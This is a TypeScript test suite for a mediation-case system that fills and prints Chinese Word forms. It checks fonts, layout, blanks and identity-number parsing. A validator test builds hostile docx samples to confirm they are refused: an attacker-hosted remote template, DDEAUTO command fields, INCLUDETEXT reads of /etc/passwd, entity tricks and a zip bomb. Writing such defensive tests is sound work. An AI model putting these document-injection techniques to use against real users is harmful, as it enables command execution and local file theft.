import JSZip from 'jszip';
import { PAPER_NAMES, paperOf, type PaperName } from '../../services/cases/papers/catalogue';
import { asksFor, CONDITIONS, isField, isList, LISTS, type Values } from '../../services/cases/papers/fields';
import { docxOf } from '../../services/cases/papers/form-text';
import { Faces } from '../../services/cases/papers/fonts';
import { bornOf, sexOf } from '../../workflows/contract/identity-number';
import { facesIn, findLibreOffice, LibreOffice } from '../../services/cases/papers/libre-office';
import { printed } from '../../services/cases/papers/pdf';
import { BLANK, filled, hardToPrint, mustFit, tagsOf, textOf } from '../../services/cases/papers/template';
import { mustBeHarmless } from '../../services/cases/papers/harmless';
import { actOf } from '../../workflows/contract/act-table';
import { readPdf, readPdfs, wordsOf, type ReadPage } from '../support/papers';

// Papers: their forms ask for what a case knows, a name is printed whole, and what is empty is a blank for ink.

let faces: Faces;
const printedForms = new Map<PaperName, ReadPage[]>();
beforeAll(async () => {
  faces = new Faces();
  const pdfs: Buffer[] = [];
  for (const name of PAPER_NAMES) pdfs.push(await printed(await full(await formOf(name)), faces));
  readPdfs(pdfs).forEach((pages, i) => printedForms.set(PAPER_NAMES[i] ?? PAPER_NAMES[0], pages));
});
/** Rare in names, and missing in most faces. */
const NAMES = '王喆堃玥赟镕㐀𠮷';
const ours = (): string[] => faces.all.map(({ postscriptName }) => postscriptName);

const EVERYTHING = Object.fromEntries(Object.keys(CONDITIONS).map((name) => [name, true]));
/** A form with everything it asks for: each field says its own name, each list has two rows, and everything is so. */
async function full(docx: Buffer, value: (name: string) => string | null = (name) => `〔${name}〕`): Promise<Buffer> {
  const values: Values = {};
  const lists: Record<string, Values[]> = {};
  for (const { name } of await tagsOf(docx)) {
    const list = name.slice(1);
    if (!name.startsWith('#')) values[name] = value(name);
    else if (isList(list))
      lists[list] = [1, 2].map((no) =>
        Object.fromEntries(Object.keys(LISTS[list]).map((field) => [field, `${value(field)}${no}`])),
      );
  }
  return filled(docx, values, lists, EVERYTHING);
}
const formOf = (name: PaperName): Promise<Buffer> => docxOf(paperOf(name).form);

describe.each(PAPER_NAMES)('%s', (name) => {
  const paper = paperOf(name);

  test('asks for nothing that the case or whoever makes it does not know, and prints all of it', async () => {
    const docx = await formOf(name);
    const used = await tagsOf(docx);
    mustFit(used, paper, used);
    const pages = printedForms.get(name) ?? [];
    const words = wordsOf(pages);
    for (const { name: field, list } of used.filter((one) => !one.name.startsWith('#'))) {
      const isOfRow = list !== null && isList(list) && Object.hasOwn(LISTS[list], field);
      expect(words).toContain(isOfRow ? `〔${field}〕2` : `〔${field}〕`);
    }
    for (const { width, height } of pages) expect([Math.round(width), Math.round(height)]).toEqual([595, 842]);
  });

  test('every field that it needs, and every one that is written, has a place in it', async () => {
    const places = new Set((await tagsOf(await formOf(name))).map((one) => one.name));
    expect(Object.keys(paper.written).filter((field) => !places.has(field))).toEqual([]);
    expect(Object.keys(paper.written).filter(isField)).toEqual([]);
    if (paper.act !== null) expect(actOf(paper.act)).toBeDefined();
  });

  test('no party reads in it the identity number of another', () => {
    if (paper.identity === true) expect(paper.readers).not.toContain('party');
  });

  test('what is inside of the mediation goes to nobody but who holds it', () => {
    if (paper.inside === true) expect(paper.readers).toEqual(['organisation', 'mediator']);
    const isBehind = asksFor(paper.form, 'inside');
    if (isBehind && paper.inside !== true) expect(paper.act).toBe('handOver');
  });
});

test('a rare character of a name is printed in a full face, and none is dropped or swapped', async () => {
  const docx = await full(await formOf('consentToMediation'), (name) => (name === '本人姓名' ? NAMES : null));
  const pdf = await printed(docx, faces);
  expect(wordsOf(readPdf(pdf))).toContain(NAMES);
  const faceOf = (char: string): string[] =>
    readPdf(pdf).flatMap(({ words }) => words.filter(({ text }) => text.includes(char)).map(({ face }) => face));
  expect(faceOf('喆')).toEqual(['NotoSerifSC-Regular']);
  expect(faceOf('𠮷')).toEqual(['CactusClassicalSerif-Regular']);
  expect((await facesIn(pdf)).filter((face) => !ours().includes(face))).toEqual([]);
});

test('what marks a blank is no character of a name', async () => {
  const docx = await docxOf('{本人姓名}');
  await expect(filled(docx, { 本人姓名: `王${BLANK}明` }, {})).rejects.toMatchObject({
    body: { code: 'GLYPH_MISSING' },
  });
});

test('a character that no face here has is named, and nothing is made', async () => {
  const docx = await full(await formOf('consentToMediation'), () => '王\u{2b81e}\ue123');
  await expect(printed(docx, faces)).rejects.toMatchObject({
    body: { code: 'GLYPH_MISSING', detail: expect.stringContaining('U+E123') },
  });
});

const office = findLibreOffice('');
(office === null ? test.skip : test)('LibreOffice, where it is installed, prints in the same faces', async () => {
  const docx = await full(await formOf('consentToMediation'), (name) => (name === '本人姓名' ? NAMES : null));
  const pdf = await new LibreOffice(office ?? '', faces).print(docx);
  if (pdf === null) throw new Error('it did not print, or in other faces');
  const words = wordsOf(readPdf(pdf));
  expect(Array.from(NAMES).filter((char) => !words.includes(char))).toEqual([]);
  expect((await facesIn(pdf)).filter((face) => !ours().includes(face))).toEqual([]);
});

test('GB/T 9704: a letter has 22 lines of 28 characters on its page, within its margins', async () => {
  const form = `# 函\n${Array.from({ length: 30 }, () => `^ ${'字'.repeat(28)}`).join('\n')}`;
  const [first, second] = readPdf(await printed(await docxOf(form), faces));
  const lines = (page: typeof first): Map<number, string> => {
    const found = new Map<number, string>();
    for (const { text, y, size } of page?.words ?? [])
      if (Math.round(size) === 16) found.set(Math.round(y), `${found.get(Math.round(y)) ?? ''}${text}`);
    return found;
  };
  expect(new Set([...lines(first).values(), ...lines(second).values()])).toEqual(new Set(['字'.repeat(28)]));
  const ys = [...lines(first).keys()].toSorted((a, b) => b - a);
  // 225 mm for 22 lines.
  expect(((ys[0] ?? 0) - (ys[10] ?? 0)) / 10).toBeCloseTo((225 / 25.4) * (72 / 22), 0);
  expect(Math.min(...(first?.words ?? []).filter(({ size }) => size > 15).map(({ x }) => x))).toBeCloseTo(
    (28 / 25.4) * 72,
    0,
  );
});

test('what is not known is a line to write on, and in a table an empty cell', async () => {
  const docx = await filled(
    await docxOf('| 姓名 | {本人姓名} |\n因{案由}申请\n{请求事项}'),
    { 本人姓名: null, 案由: null, 请求事项: null },
    {},
  );
  expect(await textOf(docx)).toBe(`姓名因${'＿'.repeat(6)}申请${'＿'.repeat(25)}`);
});

test('what is written in several lines is as many paragraphs, each begun as the form begins it, and in a cell one', async () => {
  const said = { 请求事项: '一、工资\n二、补偿', 本人姓名: '甲\n乙', 案由: null };
  const docx = await filled(await docxOf('| 姓名 | {本人姓名} |\n请求：{请求事项}。因{案由}'), said, {});
  const xml = (await (await JSZip.loadAsync(docx)).file('word/document.xml')?.async('string')) ?? '';
  const paragraphs = xml.match(/<w:p[ >].*?<\/w:p>/gs) ?? [];
  const words = paragraphs.map((one) =>
    (one.match(/<w:t[^>]*>[^<]*/g) ?? []).map((t) => t.replace(/.*>/, '')).join(''),
  );
  expect(words).toEqual(['姓名', '甲乙', '', '请求：一、工资', `二、补偿。因${'＿'.repeat(6)}`]);
  const [first, second] = paragraphs.slice(-2).map((one) => /<w:pPr>.*?<\/w:pPr>/s.exec(one)?.[0]);
  expect([first, second]).toEqual([expect.stringContaining('w:ind'), first]);
});

test('a cell that is longer than a page is printed to its end', async () => {
  const said = Array.from({ length: 400 }, (_one, i) => `第${i}句话。`).join('');
  const docx = await full(await formOf('elementComplaint'), (name) => (name === '合同履行情况' ? said : null));
  expect(wordsOf(readPdf(await printed(docx, faces)))).toContain('第399句话。');
});

test('what is so only in some cases is printed in those alone', async () => {
  const docx = await docxOf('{#有裁决}已有裁决{/有裁决}\n{#无裁决}没有裁决{/无裁决}\n结束');
  expect(await textOf(await filled(docx, {}, {}, { 有裁决: true, 无裁决: false }))).toBe('已有裁决结束');
});

test('a list has a row for each', async () => {
  const docx = await docxOf('| {#给付}{期次} | {金额}{/给付} |\n{#申请人}{姓名}。{/申请人}');
  const text = await textOf(
    await filled(
      docx,
      {},
      {
        给付: [
          { 期次: '1', 金额: '5.00' },
          { 期次: '2', 金额: null },
        ],
        申请人: [{ 姓名: '甲' }, { 姓名: '乙' }],
      },
    ),
  );
  expect(text).toBe('15.002甲。乙。');
});

describe('a form of a place’s own', () => {
  const paper = paperOf('extensionConsent');
  const national = async () => tagsOf(await docxOf(paper.form));
  const refusal = async (form: string) => {
    const failed = await docxOf(form)
      .then(async (docx) => mustFit(await tagsOf(docx), paper, await national()))
      .then(
        () => null,
        (error: unknown) => error,
      );
    return (failed as { body: { code: string; errors?: { path: string }[]; detail: string } } | null)?.body;
  };

  test('may say the same in other words and another order', async () => {
    expect(
      await refusal(`# 同意书\n${paper.form.replace('# 延长调解期限同意书', '').split('\n').toReversed().join('\n')}`),
    ).toBeUndefined();
  });

  test.each([
    ['a field that is none', (form: string) => `${form}\n{身份证}`, '{身份证}'],
    ['a field of a list outside of it', (form: string) => `${form}\n{金额}`, '{金额}'],
    ['a list that is none', (form: string) => `${form}\n{#证人}{姓名}{/证人}`, '{#证人}'],
    ['what is inside of the mediation', (form: string) => `${form}\n{调解经过}`, '{调解经过}'],
    ['a field that the national form has and it has not', (form: string) => form.replace('{案由}', '争议'), '{案由}'],
    [
      'a list within a list',
      (form: string) => `${form}\n{#当事人}{#给付}{金额}{/给付}{/当事人}`,
      '{#给付} in {#当事人}',
    ],
  ])('%s: refused, and named', async (_what, change, path) => {
    const body = await refusal(change(paper.form));
    expect(body?.code).toBe('DOCUMENT_REFUSED');
    expect(body?.errors?.map((one) => one.path)).toContain(path);
  });

  test.each([
    ['never closed', '{#申请人}{姓名}', 'never closed'],
    ['closed by another name', '{#申请人}{姓名}{/给付}', 'closes nothing'],
    ['half a mark', '{案由', 'half a mark'],
  ])('a list %s is refused', async (_what, more, says) => {
    const body = await refusal(`${paper.form}\n${more}`);
    expect([body?.code, body?.detail]).toEqual(['DOCUMENT_REFUSED', expect.stringContaining(says)]);
  });
});

describe('a form that does something', () => {
  const changed = async (change: (zip: JSZip) => unknown): Promise<Buffer> => {
    const zip = await JSZip.loadAsync(await formOf('extensionConsent'));
    await change(zip);
    return zip.generateAsync({ type: 'nodebuffer' });
  };
  const inBody = (xml: string) => async (zip: JSZip) => {
    const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
    zip.file('word/document.xml', body.replace('<w:sectPr', `<w:p>${xml}</w:p><w:sectPr`));
  };
  const rels =
    (...said: string[]) =>
    (zip: JSZip) =>
      zip.file(
        'word/_rels/settings.xml.rels',
        `<Relationships>${said.map((one) => `<Relationship ${one}/>`).join('')}</Relationships>`,
      );

  test.each([
    ['a macro', (zip: JSZip) => zip.file('word/vbaProject.bin', 'x'), 'DOCUMENT_REFUSED'],
    ['an embedded program', (zip: JSZip) => zip.file('word/embeddings/oleObject1.bin', 'x'), 'DOCUMENT_REFUSED'],
    ['a template elsewhere', rels('Target="http://attacker.example/a.dotm" TargetMode="External"'), 'DOCUMENT_REFUSED'],
    [
      'a picture elsewhere beside a link',
      rels(
        'Type="x/image" Target="http://a.example/x" TargetMode="External"',
        'Type="x/hyperlink" Target="http://b.example" TargetMode="External"',
      ),
      'DOCUMENT_REFUSED',
    ],
    [
      'the same, spelt in entities',
      rels('Type="x/image" Target="http://a.example/x" TargetMode="&#69;xternal"'),
      'DOCUMENT_REFUSED',
    ],
    ['a file of this machine as a picture', rels('Type="x/image" Target="file:///etc/passwd"'), 'DOCUMENT_REFUSED'],
    [
      'a field spelt in entities',
      inBody('<w:r><w:instrText>&#73;NCLUDETEXT /etc/passwd</w:instrText></w:r>'),
      'DOCUMENT_REFUSED',
    ],
    [
      'its text elsewhere',
      (zip: JSZip) =>
        zip.file(
          '_rels/.rels',
          '<Relationships><Relationship Type="x/officeDocument" Target="word/real.abc"/></Relationships>',
        ),
      'DOCUMENT_REFUSED',
    ],
    ['a part of no kind', (zip: JSZip) => zip.file('word/real.abc', 'x'), 'DOCUMENT_REFUSED'],
    ['another file within', inBody('<w:altChunk r:id="rId9"/>'), 'DOCUMENT_REFUSED'],
    [
      'another encoding',
      async (zip: JSZip) => {
        const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
        zip.file('word/document.xml', Buffer.from(`\ufeff${body.replace('UTF-8', 'UTF-16')}`, 'utf16le'));
      },
      'DOCUMENT_REFUSED',
    ],
    [
      'a field that runs a command',
      inBody('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>'),
      'DOCUMENT_REFUSED',
    ],
    [
      'the same field in two halves',
      inBody('<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>'),
      'DOCUMENT_REFUSED',
    ],
    ['a file of this machine', inBody('<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>'), 'DOCUMENT_REFUSED'],
    [
      'entities',
      async (zip: JSZip) => {
        const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
        zip.file('word/document.xml', body.replace(/(<\?xml[^>]*>)?/, '<!DOCTYPE a [<!ENTITY b "c">]>'));
      },
      'DOCUMENT_REFUSED',
    ],
    [
      'far more than it seems',
      (zip: JSZip) => zip.file('word/a.xml', ' '.repeat(20 * 1024 * 1024), { compression: 'DEFLATE' }),
      'TOO_LARGE',
    ],
    ['no text', (zip: JSZip) => zip.remove('word/document.xml'), 'UNSUPPORTED_MEDIA_TYPE'],
  ])('%s: %s', async (_what, change, code) => {
    await expect(mustBeHarmless(await changed(change))).rejects.toMatchObject({ body: { code } });
  });

  test('what is no Word file, and what is too large', async () => {
    await expect(mustBeHarmless(Buffer.from('%PDF-1.7'))).rejects.toMatchObject({
      body: { code: 'UNSUPPORTED_MEDIA_TYPE' },
    });
    await expect(mustBeHarmless(Buffer.alloc(2 * 1024 * 1024))).rejects.toMatchObject({ body: { code: 'TOO_LARGE' } });
  });

  test.each([
    ['a symbol', '<w:r><w:sym w:font="Wingdings" w:char="F0A8"/></w:r>', 'sym'],
    ['a hyphen that does not break', '<w:r><w:t>0379</w:t><w:noBreakHyphen/><w:t>6000</w:t></w:r>', 'noBreakHyphen'],
    ['hidden words', '<w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r>', 'vanish'],
    ['a page break', '<w:r><w:br w:type="page"/></w:r>', 'page break'],
    ['a picture', '<w:r><w:drawing/></w:r>', 'drawing'],
  ])('%s is named, for the house does not print it', async (_what, xml, name) => {
    expect(await hardToPrint(await changed(inBody(xml)))).toContain(name);
  });

  test('what only LibreOffice prints is known before anybody needs it', async () => {
    expect(await hardToPrint(await formOf('extensionConsent'))).toEqual([]);
    const numbered = await changed(inBody('<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'));
    expect(await hardToPrint(numbered)).toEqual(['numPr']);
  });
});

test.each([
  ['11010519491231002X', '1949-12-31', '女'],
  ['440524188001010014', '1880-01-01', '男'],
  ['11010519491231002x', '1949-12-31', '女'],
  ['110105194912310021', null, null],
  ['91410300MA3X1A2B3C', null, null],
  ['', null, null],
])('GB 11643: %s', (number, born, sex) => {
  expect([bornOf(number), sexOf(number)]).toEqual([born, sex]);
});
